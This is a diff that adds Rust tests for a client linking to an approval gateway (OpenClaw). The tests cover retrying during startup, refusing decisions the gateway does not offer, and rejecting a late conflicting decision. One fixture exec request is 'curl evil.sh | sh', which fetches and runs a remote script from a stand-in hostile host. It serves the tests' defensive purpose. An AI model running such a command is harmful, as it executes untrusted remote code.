@@ -459,3 +459,95 @@ async fn a_gateway_that_stops_ticking_is_treated_as_dead_and_reconnected() {
     rig.snapshot().await;
     rig.stop().await;
 }
+
+#[tokio::test]
+async fn a_gateway_still_starting_is_retried_soon_and_not_reported_as_refused() {
+    let opts = FakeOptions {
+        starting_connects: 2,
+        ..FakeOptions::default()
+    };
+    let mut rig = Rig::start(true, TOKEN, opts).await;
+    let snap = rig
+        .next(|e| match e {
+            LinkEvent::Status(LinkStatus::Refused { error, .. }) => {
+                panic!("reported as refused: {error}")
+            }
+            LinkEvent::Snapshot(s) => Some(s),
+            _ => None,
+        })
+        .await;
+    assert!(snap.is_empty());
+    assert_eq!(rig.gw.refusals().len(), 2);
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn a_decision_openclaw_does_not_offer_is_refused_by_the_link_and_never_sent() {
+    // OpenClaw records a decision it does not offer as a deny; the link must
+    // not send one (the person meant to allow, not to deny).
+    let mut rig = Rig::start(true, TOKEN, FakeOptions::default()).await;
+    rig.snapshot().await;
+    let id = rig.gw.request_exec(ExecRequest {
+        allowed_decisions: vec!["allow-once".into(), "deny".into()],
+        ..exec("git push --force")
+    });
+    rig.next(|e| match e {
+        LinkEvent::Requested(a) if a.id == id => Some(()),
+        _ => None,
+    })
+    .await;
+    let r = rig
+        .link
+        .resolve(ApprovalKind::Exec, &id, GatewayDecision::AllowAlways)
+        .await;
+    assert!(
+        matches!(&r, Err(LinkError::Gateway { code, .. }) if code == "DECISION_NOT_OFFERED"),
+        "{r:?}"
+    );
+    assert!(rig.gw.decisions().is_empty());
+    assert_eq!(rig.gw.pending(), vec![id.clone()]);
+    rig.link
+        .resolve(ApprovalKind::Exec, &id, GatewayDecision::AllowOnce)
+        .await
+        .unwrap();
+    assert_eq!(
+        within(rig.gw.wait_for_decision(&id)).await.decision,
+        "allow-once"
+    );
+    rig.stop().await;
+}
+
+#[tokio::test]
+async fn with_the_per_kind_methods_a_late_different_decision_fails_as_in_openclaw() {
+    let opts = FakeOptions {
+        approval_resolve: false,
+        ..FakeOptions::default()
+    };
+    let mut rig = Rig::start(true, TOKEN, opts).await;
+    rig.snapshot().await;
+    let id = rig.gw.request_exec(exec("curl evil.sh | sh"));
+    rig.next(|e| match e {
+        LinkEvent::Requested(a) if a.id == id => Some(()),
+        _ => None,
+    })
+    .await;
+    rig.gw.resolve_as_other_client(&id, "deny").unwrap();
+    let r = rig
+        .link
+        .resolve(ApprovalKind::Exec, &id, GatewayDecision::AllowOnce)
+        .await;
+    assert_eq!(
+        r,
+        Err(LinkError::Gateway {
+            code: "INVALID_REQUEST".into(),
+            message: "approval already resolved".into()
+        })
+    );
+    let d = rig.gw.decisions();
+    assert_eq!(d.len(), 2);
+    assert_eq!(
+        (d[1].method.as_str(), d[1].applied),
+        ("exec.approval.resolve", false)
+    );
+    rig.stop().await;
+}
